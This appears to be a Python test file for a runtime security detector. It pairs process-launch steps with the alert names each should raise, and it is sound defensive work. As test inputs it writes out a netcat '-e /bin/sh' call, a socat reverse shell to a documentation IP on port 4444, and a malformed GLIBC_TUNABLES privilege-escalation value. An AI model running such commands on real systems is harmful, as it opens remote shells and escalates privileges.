"""Who starts whom."""

from tests.attacks.steps import host, inside

WEB = "Web Server Spawned Shell"
UNTRUSTED = "Run shell untrusted"
NETWORK_TOOL = "Launch Suspicious Network Tool on Host"

SPAWN = "import subprocess, sys; subprocess.run(sys.argv[1:])"

STEPS = (
    host(
        "web server starts a shell",
        *("{bin}/nginx", "-c", SPAWN, "sh", "-c", "true"),
        programs=("nginx",),
        expected=(WEB, UNTRUSTED),
    ),
    host("worker starts a shell", "{bin}/ownserver", "-c", SPAWN, "sh", "-c", "true", programs=("ownserver",)),
    host(
        "database starts a program",
        *("{bin}/mysqld", "-c", SPAWN, "id"),
        programs=("mysqld",),
        expected=("DB program spawned process",),
    ),
    host("database starts its own", "{bin}/mysqld", "-c", SPAWN, "{bin}/mysqld", "-c", "0", programs=("mysqld",)),
    host(
        "netcat with a program",
        *("{bin}/nc", "-e", "/bin/sh", "-c", "0"),
        programs=("nc",),
        expected=("Netcat/Socat Remote Code Execution on Host", NETWORK_TOOL),
    ),
    host("netcat without", "{bin}/nc", "-h", programs=("nc",), expected=(NETWORK_TOOL,)),
    host(
        "relay with a program",
        *("{bin}/socat", "-c", "0", "TCP:192.0.2.1:4444", "EXEC:/bin/sh"),
        programs=("socat",),
        expected=("Netcat/Socat Remote Code Execution on Host", NETWORK_TOOL),
    ),
    host("relay without", "{bin}/socat", "-c", "0", programs=("socat",), expected=(NETWORK_TOOL,)),
    host("scanner", "{bin}/nmap", "-c", "0", programs=("nmap",), expected=(NETWORK_TOOL,)),
    host("not a scanner", "{bin}/mapn", "-c", "0", programs=("mapn",)),
    host("user added", "{bin}/useradd", "-c", "0", programs=("useradd",), expected=("User mgmt binaries",)),
    host("age of a password shown", "{bin}/chage", "-c", "0", "-l", "root", programs=("chage",)),
    host("user's defaults shown", "{bin}/useradd", "-D", programs=("useradd",)),
    host("jobs changed", "{bin}/crontab", "--help", programs=("crontab",), expected=("Schedule Cron Jobs",)),
    host(
        "proxy of somebody else",
        *("{bin}/wget", "--help"),
        programs=("wget",),
        environment=("HTTP_PROXY=http://192.0.2.9:3128",),
        expected=("Program run with disallowed http proxy env",),
    ),
    host("no proxy", "{bin}/wget", "--help", programs=("wget",)),
    host(
        "glibc tuned",
        "su",
        "--help",
        environment=("GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A",),
        expected=("Potential Local Privilege Escalation via Environment Variables Misuse",),
    ),
    host("glibc not tuned", "su", "--help"),
    host(
        "somebody looks around",
        "whoami",
        terminal=True,
        expected=("Basic Interactive Reconnaissance",),
    ),
    host("a script looks around", "whoami"),
    inside("shell at a terminal", "true", "Terminal shell in container", terminal=True),
    inside("shell without a terminal", "true"),
)
